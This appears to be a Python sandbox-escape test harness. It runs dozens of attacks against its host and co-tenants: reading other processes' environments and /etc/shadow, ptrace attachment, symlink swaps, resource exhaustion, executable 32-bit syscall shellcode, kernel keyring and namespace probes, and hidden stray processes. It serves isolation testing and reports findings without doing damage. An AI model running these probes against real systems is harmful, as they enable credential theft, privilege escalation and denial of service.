#!/usr/bin/python3
# A hostile program, run as a tool. It tries all that its writer can think of against the process that started it, against other tenants and
# against the machine, and writes as JSON what it has reached: for each attack a text that says how, or null where it came to nothing.
# It reads from standard input where its victims are. It breaks nothing: where to reach is to harm, it stops at what shows that it could.
import ctypes, errno, glob, json, mmap, os, platform, resource, signal, socket, sys, time

world = json.load(sys.stdin)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mmap.restype = ctypes.c_void_p
libc.shmat.restype = ctypes.c_void_p
arm = platform.machine() == 'aarch64'
MIB = 1024 * 1024
# How much more than its limit it tries to hold: enough to show it, too little to hurt the machine.
HOARD = world['hoardMib']

def number(x64, arm64):
    return arm64 if arm else x64

def call(nr, *args):
    value = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if value < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return value

def read(path, limit=1 << 20):
    with open(path, 'rb') as file:
        return file.read(limit)

def pids():
    return [int(name) for name in os.listdir('/proc') if name.isdigit() and int(name) != os.getpid()]

# --- The host, and other tenants

def host_environment():
    for pid in pids():
        try:
            if world['hostSecret'].encode() in read(f'/proc/{pid}/environ'):
                return f'the environment of process {pid}'
        except OSError:
            pass

def other_tenants_environment():
    for pid in pids():
        try:
            if world['otherSecret'].encode() in read(f'/proc/{pid}/environ'):
                return f'the environment of process {pid}'
        except OSError:
            pass

def other_tenants_key_file():
    places = glob.glob(f"{world['temporary']}/proviso-call-*/*/*") + glob.glob(f"{world['temporary']}/proviso-call-*/*")
    for pid in pids():
        try:
            names = dict(part.split(b'=', 1) for part in read(f'/proc/{pid}/environ').split(b'\0') if b'=' in part)
            places += [names[b'KEY_FILE'].decode()] if b'KEY_FILE' in names else []
        except OSError:
            pass
    for place in places + world['guessed']:
        try:
            if world['otherSecret'].encode() in read(place):
                return place
        except OSError:
            pass

def other_tenants_memory():
    return traced(world['otherPids'])

def hosts_memory():
    return traced([world['hostPid']])

def traced(victims):
    for pid in victims:
        try:
            if call(number(101, 117), 16, pid, 0, 0) == 0:
                os.waitpid(pid, 0)
                call(number(101, 117), 17, pid, 0, 0)
                return f'traces process {pid}'
        except OSError:
            pass

def other_tenants_end():
    return signalled(world['otherPids'])

def hosts_end():
    return signalled([world['hostPid']])

def signalled(victims):
    for pid in victims:
        try:
            os.kill(pid, 0)
            return f'may end process {pid}'
        except OSError:
            pass

def files_of_root():
    for path in ['/etc/shadow', world['secretFile']]:
        try:
            read(path)
            return path
        except OSError:
            pass

def ledger_read():
    for path in glob.glob(world['ledger'] + '/pg_wal/*') + glob.glob(world['ledger'] + '/base/*/*'):
        try:
            read(path, 4096)
            return path
        except OSError:
            pass
    return ledger_folder()

def ledger_folder():
    try:
        return f"{len(os.listdir(world['ledger']))} names in {world['ledger']}"
    except OSError:
        return None

def ledger_settings():
    try:
        os.close(os.open(world['ledger'] + '/postgresql.auto.conf', os.O_WRONLY | os.O_APPEND))
        return 'postgresql.auto.conf can be written'
    except OSError:
        return None

def ledger_end():
    return signalled(world['ledgerPids'])

def ledger_connect():
    try:
        client = socket.socket(socket.AF_UNIX)
        client.connect(world['ledgerSocket'])
        return world['ledgerSocket']
    except OSError:
        return None

# --- The scratch folder, the program's own file, what is handed on

def scratch_swapped():
    home = os.environ['HOME']
    if home == '/tmp':
        home = os.environ.get('KEY_FILE', '/tmp/none')
    for path in [home, os.path.dirname(home)]:
        if path in ('/', '/tmp'):
            continue
        try:
            os.rename(path, path + '-mine')
            os.symlink(world['victim'], path)
            return f'{path} leads to {world["victim"]}'
        except OSError:
            pass

def program_replaced():
    own = world['program']
    for attempt in (lambda: os.close(os.open(own, os.O_WRONLY)), lambda: os.rename(own, own + '-mine')):
        try:
            attempt()
            return own
        except OSError:
            pass

def descriptors():
    found = []
    for name in os.listdir('/proc/self/fd'):
        if int(name) > 2:
            try:
                found.append(f'{name} is {os.readlink(f"/proc/self/fd/{name}")}')
            except OSError:
                pass
    return ', '.join(found) or None

def descriptor_leads_out():
    for name in range(3, 1024):
        try:
            os.close(os.open('etc/hostname', os.O_RDONLY, dir_fd=name))
            return f'/etc/hostname by descriptor {name}'
        except OSError:
            pass

def terminal():
    try:
        os.close(os.open('/dev/tty', os.O_RDWR))
        return '/dev/tty'
    except OSError:
        return None

# --- Limits

def held(mib):
    return f'{mib} MiB beyond the limit' if mib * MIB > world['memoryBytes'] else None

def fill(write):
    mib = 0
    try:
        while mib < HOARD:
            write(mib)
            mib += 1
    except (OSError, MemoryError, ValueError):
        pass
    return mib

def memory_files():
    block = b'x' * MIB
    total = 0
    files = []
    try:
        # Each file may be as large as the limit of files; there is no limit of how many.
        while total < HOARD:
            descriptor = call(number(319, 279), ctypes.c_char_p(b'hoard'), 0)
            files.append(descriptor)
            wrote = fill(lambda _: os.write(descriptor, block)) if total == 0 else sum(1 for _ in range(32) if os.write(descriptor, block))
            total += wrote
            if wrote == 0:
                break
    except OSError:
        pass
    for descriptor in files:
        os.close(descriptor)
    return held(total)

def system_v_memory():
    ids, total = [], 0
    try:
        while total < HOARD:
            segment = call(number(29, 194), 0, 32 * MIB, 0o1600)
            ids.append(segment)
            address = libc.shmat(segment, None, 0)
            if address == ctypes.c_void_p(-1).value:
                break
            ctypes.memset(address, 1, 32 * MIB)
            libc.shmdt(ctypes.c_void_p(address))
            total += 32
    except OSError:
        pass
    for segment in ids:
        libc.shmctl(segment, 0, None)
    return held(total)

def system_v_queues():
    made = 0
    try:
        while made < 64:
            queue = call(number(68, 186), 0, 0o1600)
            libc.msgctl(queue, 0, None)
            made += 1
    except OSError:
        pass
    return f'{made} queues' if made > 0 else None

def shared_mapping():
    try:
        mmap.mmap(-1, world['memoryBytes'] * 2, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)[::4096]
        return f"{world['memoryBytes'] * 2 // MIB} MiB shared"
    except (OSError, ValueError):
        return None

def shared_folder():
    return beyond('/dev/shm')

def temporary_folder():
    return beyond(os.environ['TMPDIR'])

def beyond(folder):
    paths, block, total = [], b'x' * MIB, 0
    try:
        for index in range(4):
            path = f'{folder}/hoard-{os.getpid()}-{index}'
            paths.append(path)
            with open(path, 'wb', buffering=0) as file:
                total += fill(lambda _: file.write(block))
    except OSError:
        pass
    for path in paths:
        try:
            os.unlink(path)
        except OSError:
            pass
    return f'{total} MiB of files' if total * MIB > world['fileBytes'] else None

def limits_raised():
    for what in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
        try:
            resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            return 'setrlimit'
        except (OSError, ValueError):
            pass

def forks():
    children = []
    try:
        while len(children) < world['processes'] * 4:
            pid = os.fork()
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            children.append(pid)
    except OSError:
        pass
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return f'{len(children)} processes' if len(children) > world['processes'] * 2 else None

def rings():
    parameters = ctypes.create_string_buffer(120)
    try:
        os.close(call(425, 8, parameters))
        return 'io_uring_setup'
    except OSError:
        return None

# --- Keys of the kernel

def keys():
    try:
        call(number(250, 219), 0, -3, 0)
        return 'the session keyring'
    except OSError:
        return None

def keys_of_others():
    name = ctypes.c_char_p(b'proviso-hostile-' + world['run'].encode())
    kind = ctypes.c_char_p(b'user')
    try:
        key = call(number(250, 219), 10, -3, kind, name, 0)
        return f'key {key} of another call'
    except OSError:
        pass
    try:
        call(number(248, 217), kind, name, ctypes.c_char_p(b'left'), 4, -3)
    except OSError:
        pass

# --- Other ABIs, rights, namespaces

def in_child(attempt):
    inside, outside = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            found = attempt()
            os.write(outside, (found or '').encode())
        finally:
            os._exit(0)
    os.close(outside)
    text = os.read(inside, 4096).decode()
    os.close(inside)
    os.waitpid(pid, 0)
    return text or None

def foreign_abi():
    if arm:
        return None
    def attempt():
        # mov eax, 356 (memfd_create of 32 bits); xor ecx, ecx; int 0x80; ret
        code = b'\xb8\x64\x01\x00\x00\x31\xc9\xcd\x80\xc3'
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        value = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        # Without the filter the kernel takes the call and finds a bad address.
        return 'int 0x80' if value >= 0 or value == -errno.EFAULT else None
    return in_child(attempt)

def x32_abi():
    if arm:
        return None
    def attempt():
        try:
            call(0x40000000 | 319, ctypes.c_char_p(b'x32'), 0)
            return 'a call of x32'
        except OSError:
            return None
    return in_child(attempt)

def user_namespace():
    return in_child(lambda: 'unshare' if libc.unshare(0x10000000) == 0 else None)

def rights():
    status = read('/proc/self/status').decode()
    if 'NoNewPrivs:\t1' not in status:
        return 'new rights by what it executes'
    effective = [line for line in status.split('\n') if line.startswith('CapEff')][0].split()[1]
    return f'capabilities {effective}' if int(effective, 16) != 0 else None

def another_user():
    for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
        try:
            change()
            return 'another user or group'
        except OSError:
            pass

def settings_of_the_kernel():
    for path in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper'):
        try:
            os.close(os.open(path, os.O_WRONLY))
            return path
        except OSError:
            pass

# --- Connections

def network():
    try:
        socket.create_connection(('127.0.0.1', world['port']), 1).close()
        return f"127.0.0.1:{world['port']}"
    except OSError:
        return None

def abstract_socket():
    try:
        client = socket.socket(socket.AF_UNIX)
        client.connect('\0' + world['abstract'])
        return world['abstract']
    except OSError:
        return None

# --- What it leaves behind: looked for from outside

def leave(kind):
    # Twice a fork and a session of its own, nothing of the call's environment, and nobody may look at it.
    if os.fork() > 0:
        return
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    os.closerange(0, 64)
    hide = 'import ctypes, time; ctypes.CDLL(None).prctl(4, 0, 0, 0, 0); time.sleep(120)'
    if kind == 'plain':
        os.execve('/bin/sleep', [world['strayName'], '120'], {})
    os.execve('/usr/bin/python3', [world['strayName'], '-c', hide], {})

def leave_things():
    left = []
    for kind in ('plain', 'hidden'):
        try:
            leave(kind)
        except OSError:
            pass
    try:
        left.append(call(number(29, 194), world['segmentKey'], 4096, 0o1600))
    except OSError:
        pass
    try:
        with open(f"/dev/shm/{world['strayName']}", 'w') as file:
            file.write('left')
    except OSError:
        pass
    # As Go leaves its module cache: a folder that not even its owner may change.
    work = os.environ['TMPDIR'] + '-mine'
    work = work if os.path.isdir(work) else os.environ['TMPDIR']
    os.makedirs(work + '/cache/module', exist_ok=True)
    with open(work + '/cache/module/file', 'w') as file:
        file.write('left')
    os.chmod(work + '/cache/module', 0o555)
    os.chmod(work + '/cache', 0o555)

attacks = [
    host_environment, hosts_memory, hosts_end, files_of_root,
    other_tenants_environment, other_tenants_key_file, other_tenants_memory, other_tenants_end,
    ledger_read, ledger_settings, ledger_end, ledger_connect,
    scratch_swapped, program_replaced, descriptors, descriptor_leads_out, terminal,
    memory_files, system_v_memory, system_v_queues, shared_mapping, shared_folder, temporary_folder, limits_raised, forks, rings,
    keys, keys_of_others,
    foreign_abi, x32_abi, user_namespace, rights, another_user, settings_of_the_kernel,
    network, abstract_socket,
]

report = {}
for attack in attacks:
    try:
        report[attack.__name__] = attack()
    except Exception as error:
        report[attack.__name__] = f'it failed itself: {error!r}'
leave_things()
json.dump(report, sys.stdout)
